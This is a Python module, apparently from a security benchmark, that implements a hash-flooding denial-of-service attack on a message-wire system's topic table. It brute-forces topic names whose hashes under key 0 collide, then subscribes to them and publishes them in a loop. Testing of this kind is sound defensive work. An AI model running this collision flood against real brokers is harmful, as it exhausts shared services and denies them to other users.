"""Names that were chosen so that they fall into one bucket of the topic table, if its hash has the key 0."""

from __future__ import annotations

from functools import cache

import numpy

from bench.hostile.attack import Attack, Budget, Effort, Tally
from chappe.wire import control
from chappe.wire.events import Event, Topic, TopicName

K0, K1 = 0x9E3779B97F4A7C15, 0xD6E8FEB86659FD93  # as in engine/_topics_hash.pxd
BITS = 16  # of the hash that all names share
NAMES = 300
CHUNK = 1 << 20


class HashFlood(Attack):
    """Subscribes to chosen names, then defines and publishes them over and over."""

    name = "hash flooding"

    def prepare(self) -> None:
        self.wire = self.open()
        self.topics = [f"mallory/{name}" for name in chosen_names()]
        for topic in self.topics:
            self.wire.ask(control.Subscribe, pattern=topic)
        self.sequence = 0

    def strike(self, effort: Effort) -> Tally:
        budget = Budget(effort)
        while budget.left:
            frames: list[Topic | Event] = []
            for number, topic in enumerate(self.topics, 1):
                self.sequence += 1
                frames += [Topic(number, TopicName(topic)), Event(number, self.sequence, b"")]
            self.wire.send(*frames)
            self.wire.flush()
            self.wire.events.clear()
            budget.act(len(self.topics))
        return budget.tally


@cache
def chosen_names() -> tuple[str, ...]:
    """Names of eight letters whose hashes under the key 0 end in the same bits."""
    found: list[str] = []
    start = 0
    while len(found) < NAMES and start < CHUNK * 256:
        numbers = numpy.arange(start, start + CHUNK, dtype=numpy.uint64)
        shifts = numpy.arange(0, 32, 4, dtype=numpy.uint64)
        letters = ((numbers[:, None] >> shifts) & numpy.uint64(15)) + numpy.uint64(ord("a"))
        words = (letters << (numpy.arange(8, dtype=numpy.uint64) * numpy.uint64(8))).sum(axis=1, dtype=numpy.uint64)
        hashed = _hash(words)
        hits = words[(hashed & numpy.uint64((1 << BITS) - 1)) == 0]
        found += [int(word).to_bytes(8, "little").decode() for word in hits]
        start += CHUNK
    return tuple(found[:NAMES])


def _hash(words: numpy.ndarray) -> numpy.ndarray:
    """`hash_bytes` of eight bytes under the key 0."""
    first = numpy.uint64((K0 ^ (8 * K1)) & (1 << 64) - 1)
    return _fold(_fold(_fold(first ^ words, K1), K1), K0) & numpy.uint64(0xFFFF_FFFF)


def _fold(a: numpy.ndarray, b: int) -> numpy.ndarray:
    """The upper and the lower half of the product of 128 bits, one upon the other."""
    low, half = numpy.uint64(0xFFFF_FFFF), numpy.uint64(32)
    a0, a1 = a & low, a >> half
    b0, b1 = numpy.uint64(b & 0xFFFF_FFFF), numpy.uint64(b >> 32)
    middle = a1 * b0 + ((a0 * b0) >> half)
    other = a0 * b1 + (middle & low)
    upper = a1 * b1 + (middle >> half) + (other >> half)
    with numpy.errstate(over="ignore"):
        folded: numpy.ndarray = upper ^ (a * numpy.uint64(b))
    return folded
